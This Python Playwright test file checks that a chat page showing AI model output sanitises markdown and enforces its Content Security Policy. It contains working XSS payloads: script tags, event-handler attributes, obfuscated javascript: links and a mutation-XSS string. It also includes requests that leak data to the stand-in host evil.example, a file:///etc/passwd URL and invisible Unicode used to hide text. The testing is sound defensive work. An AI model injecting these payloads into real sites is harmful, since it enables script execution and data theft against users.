"""Texts of models, specialists, servers and people run nothing and load nothing from other hosts."""

import json
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

import pytest
from playwright.sync_api import Request, Route, expect

from brain.events import Thinking
from page.chat import Chat
from page.markdown import load
from page.server import HOSTILE, PageServer, request
from page.texts import page_text
from page.visitor import Visitor

pytestmark = pytest.mark.chromium

AWAY = "https://evil.example"
PAYLOADS = (
    HOSTILE,
    "<script>hacked=1</script>",
    f"<svg><image href={AWAY}/a.png /></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[two](javascript:hacked=1) [three](JaVaScRiPt:hacked=1) [four](java&#10;script:hacked=1)",
    f"![nine]({AWAY}/b.png) ![ten](//evil.example/c.png) ![eleven](data:image/svg+xml,<svg/onload=hacked=1>)",
    f"<img src={AWAY}/e.png><picture><source srcset={AWAY}/f.png></picture><video autoplay src={AWAY}/g.mp4></video>",
    f"<style>@import '{AWAY}/h.css'; * {{ display: none }}</style>",
    f"<link rel=stylesheet href={AWAY}/j.css><base href={AWAY}/><meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><input autofocus onfocus=hacked=1><button popovertarget=history>fourteen</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hacked=1&gt;'>",
    '```"><img/src=x/onerror=hacked=1>\n</code></pre><script>hacked=1</script>\n```',
    "# <img src=x onerror=hacked=1>\n\n> <script>hacked=1</script>\n\n- <b>bold</b>",
    "<details open ontoggle=hacked=1>fifteen</details>",
    "<p id=box name=title class=call>sixteen</p>",
    "end",
)
"""Written token by token; `test_markdown` has many more, as complete texts."""
UNEXPECTED = (
    "img, picture, video, audio, source, iframe, object, embed, script, style, link, meta, base, form, input, b, math, "
    "svg:not(.icon), [id], [name], [style]:not(.latest-answer), [onerror], [onload], [onfocus], [ontoggle], "
    "[popovertarget], [autofocus], a:not([href^='http://'], [href^='https://'], [href^='mailto:'], [href^='#'])"
)
WATCH = """(log, unexpected) => {
    window.unexpected = [];
    new MutationObserver(() => {
        for (const node of log.querySelectorAll(unexpected)) window.unexpected.push(node.outerHTML);
    }).observe(log, { subtree: true, childList: true, attributes: true });
}"""


@pytest.fixture
def other_hosts(visitor: Visitor, server: PageServer) -> Iterator[list[str]]:
    """The URLs of other hosts that the browser requests."""
    urls: list[str] = []

    def note(one: Request) -> None:
        if not one.url.startswith((f"{server.url}/", "blob:")):
            urls.append(one.url)

    visitor.context.on("request", note)
    yield urls
    visitor.context.remove_listener("request", note)


def check_harmless(chat: Chat, other_hosts: Sequence[str]) -> None:
    """Check that nothing ran, that no other host got a request, and that all elements are expected."""
    assert chat.page.evaluate("window.hacked") is None
    assert (
        chat.log.evaluate(
            "(log, unexpected) => [...log.querySelectorAll(unexpected)].map(it => it.outerHTML)", UNEXPECTED
        )
        == []
    )
    assert other_hosts == []


def test_an_answer_written_token_by_token(other_hosts: list[str], chat: Chat, server: PageServer) -> None:
    answer = chat.ask()
    chat.log.evaluate(WATCH, UNEXPECTED)
    for payload in PAYLOADS:
        server.model.write_slowly(payload)
        server.model.write("\n\n")
    expect(answer).to_contain_text("end")
    server.finish(chat)
    expect(answer.get_by_role("heading")).to_have_text("<img src=x onerror=hacked=1>")
    assert chat.page.evaluate("window.unexpected") == []
    check_harmless(chat, other_hosts)
    chat.reload()
    expect(chat.answer.get_by_role("heading")).to_have_text("<img src=x onerror=hacked=1>")
    check_harmless(chat, other_hosts)
    chat.start_conversation()
    answer = chat.ask(HOSTILE)
    server.model.write(Thinking(HOSTILE), "So far.\n")
    expect(answer).to_contain_text("So far.")
    chat.steer(f"{HOSTILE} [a](javascript:hacked=1)")
    server.model.write("\n")
    expect(answer).to_contain_text(f"{HOSTILE} [a](javascript:hacked=1)")
    server.finish(chat)
    answer.get_by_text("Reasoning", exact=True).click()
    expect(answer.get_by_text(HOSTILE, exact=True).first).to_be_visible()
    check_harmless(chat, other_hosts)


CALL = {"call_id": "c1", "name": HOSTILE, "params": {HOSTILE: HOSTILE}}
EXPIRY = {"expires_at": "2999-01-01T00:00:00Z"}
URLS = "javascript:hacked=1", f"data:text/html,{HOSTILE}", "file:///etc/passwd", "//evil.example", "https://[", AWAY
CITED = [{"id": HOSTILE, "title": HOSTILE, "url": url} for url in URLS]
EVENTS: Sequence[tuple[str, Mapping[str, Any]]] = (
    ("turn_start", {"turn_id": "t1", "conversation_id": "c1", "model": HOSTILE}),
    ("thinking", {"text": HOSTILE}),
    ("notice", {"code": "recalled", "text": HOSTILE}),
    ("notice", {"code": "steered", "text": HOSTILE}),
    ("approval_required", {**CALL, **EXPIRY, "text": f"{HOSTILE}\n{HOSTILE}"}),
    ("specialist_start", {**CALL, "call_id": "c2"}),
    ("specialist_progress", {"call_id": "c2", "text": HOSTILE, "fraction": HOSTILE}),
    ("specialist_result", {**CALL, "call_id": "c3", "text": HOSTILE, "citations": CITED, "ms": 5}),
    ("specialist_error", {**CALL, "call_id": "c4", "code": HOSTILE, "reason": HOSTILE, "ms": 5}),
    ("round", {"n": HOSTILE, "of": HOSTILE, "role": HOSTILE, "model": HOSTILE, "text": HOSTILE}),
    ("usage", {"prompt_tokens": 1, "completion_tokens": 1, "estimated": False}),
    ("error", {"code": HOSTILE, "message": HOSTILE, "recoverable": True}),
)


def test_events_of_a_turn(other_hosts: list[str], chat: Chat, server: PageServer) -> None:
    frames = [f"event: {name}\ndata: {json.dumps(data)}\nid: t1.{n}\n\n" for n, (name, data) in enumerate(EVENTS, 1)]
    chat.page.route("**/events?*", lambda route: stream(route, "".join(frames)))
    answer = chat.ask()
    expect(answer.get_by_role("alert")).to_contain_text(HOSTILE)
    expect(answer.get_by_role("group", name=HOSTILE, exact=True)).to_have_count(4)
    assert answer.inner_text().count(HOSTILE) > 12
    links = answer.locator("a").evaluate_all("nodes => nodes.map(node => node.href)")
    assert links == [f"{AWAY}/"]
    check_harmless(chat, other_hosts)


def stream(route: Route, body: str) -> None:
    route.fulfill(headers={"Content-Type": "text/event-stream"}, body=body)


def test_names_of_models_specialists_and_conversations(
    other_hosts: list[str], visitor: Visitor, server: PageServer
) -> None:
    one = {"name": HOSTILE, "description": HOSTILE, "examples": [HOSTILE], "approval": "never", "activates_on": []}
    one = {**one, "origin": HOSTILE}
    specialists = [{**one, "available": True}, {**one, "available": False, "unavailable_reason": HOSTILE}]
    time = "2026-11-21T13:30:58Z"
    heading: dict[str, Any] = {"id": HOSTILE, "title": HOSTILE, "created": time, "updated": time}
    heading |= {"sources": [HOSTILE], "found": HOSTILE}
    model = {"name": HOSTILE, "stand_in": True, "default": True}
    context = visitor.context
    context.route("**/v1/conversations?*", lambda route: route.fulfill(json={"conversations": [heading], "next": None}))
    context.route("**/v1/specialists", lambda route: route.fulfill(json={"specialists": specialists}))
    strategies = [{"name": HOSTILE, "default": n == 1, "models": {HOSTILE: HOSTILE, "actor": ""}} for n in range(2)]
    start = {"models": [model], "strategies": strategies, "specialists": specialists}
    context.route("**/page/start", lambda route: route.fulfill(json={**route.fetch().json(), **start}))
    chat = visitor.open(server.url)
    expect(chat.conversation(HOSTILE)).to_be_visible()
    expect(chat.button(HOSTILE)).to_be_visible()  # the example
    expect(chat.page.get_by_role("main")).to_contain_text(page_text("demoMode"))
    chat.button("Specialists").click()
    rows = chat.page.get_by_role("dialog").get_by_role("listitem")
    expect(rows.last).to_contain_text(f"Not available: {HOSTILE}")
    assert chat.page.locator("img, b").count() == 0
    check_harmless(chat, other_hosts)


INVISIBLE = (
    "\u202e\u2066\u2069\u200e\u200f\u061c"  # reverse the text around them
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f"  # have no width
    "\u00a0\u2003\u3000\u2028\u2029\u0085"  # look like other spaces or like nothing
    "\U000e0041\U000e007f\ufe0f\U000e0100"  # can hide whole texts
    "\u3164\u115f\u1160\uffa0\u2800"  # letters and symbols that look empty
)


def test_invisible_characters_are_visible_before_approval(chat: Chat, server: PageServer) -> None:
    chat.ask()
    server.model.write(request("burns", title=f"a{INVISIBLE}z"), " x")
    shown = chat.card("burns").get_by_text('"title"').last
    ends = "\u2028\u2029\x85"  # of lines; the server escapes them
    numbers = "".join(f"\\u{ord(one):04x}" if one in ends else f"\\u{{{ord(one):x}}}" for one in INVISIBLE)
    expect(shown).to_contain_text(f'"title": "a{numbers}z"')
    expect(chat.card("burns").get_by_text("title:").first).to_contain_text(f'"a{numbers}z"')  # in short


ATTEMPTS = {
    "eval('hacked = 1')": "EvalError",
    "new Function('hacked = 1')()": "EvalError",
    "document.body.innerHTML = '<p>hacked</p>'": "TypeError",
    "document.body.setAttribute('onclick', 'hacked = 1')": "TypeError",
    "document.createElement('script').text = 'hacked = 1'": "TypeError",
    f"document.createElement('script').src = '{AWAY}/x.js'": "TypeError",
    "document.createElement('iframe').srcdoc = '<p>hacked</p>'": "TypeError",
    "trustedTypes.createPolicy('evil', { createHTML: (html) => html })": "TypeError",
    "trustedTypes.createPolicy('dompurify', { createHTML: (html) => html })": "TypeError",  # there is one already
}
LATER = """() => new Promise((resolve) => setTimeout(() => {
    try { %s; resolve("it worked"); } catch (error) { resolve(error.name); }
}))"""  # the policy does not apply to code that the debugger runs directly


RECORD_VIOLATIONS = """() => {
    window.violations = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.violations.push(effectiveDirective));
}"""
LOADS = {
    "img-src": f"done => Object.assign(new Image(), {{ onerror: done, src: '{AWAY}/leak.png' }})",
    "connect-src": f"done => fetch('{AWAY}').catch(done)",
    "font-src": f"done => new FontFace('leak', 'url({AWAY}/leak.woff)').load().catch(done)",
}


def test_the_browser_refuses_text_as_code_inline_code_and_other_hosts(chat: Chat, visitor: Visitor) -> None:
    visitor.allow("violates", "Content Security Policy", "Trusted")
    load(chat)
    assert {attempt: chat.page.evaluate(LATER % attempt) for attempt in ATTEMPTS} == ATTEMPTS
    chat.page.evaluate(RECORD_VIOLATIONS)
    for attempt in LOADS.values():
        chat.page.evaluate(f"new Promise({attempt}).then(() => null)")
    chat.page.evaluate("document.body.append(document.createElement('style'))")
    chat.page.evaluate("document.querySelector('body > style').append('* { color: rgb(1, 2, 3) }')")
    chat.page.evaluate("document.body.setAttribute('style', 'color: rgb(1, 2, 3)')")
    chat.page.evaluate("document.body.append(document.createElement('script'))")
    chat.page.evaluate("document.querySelector('body > script').append('hacked = 1')")
    assert chat.page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
    assert chat.page.evaluate("window.hacked") is None
    refused = {*LOADS, "style-src-elem", "style-src-attr", "require-trusted-types-for"}
    assert refused <= set(chat.page.evaluate("window.violations"))
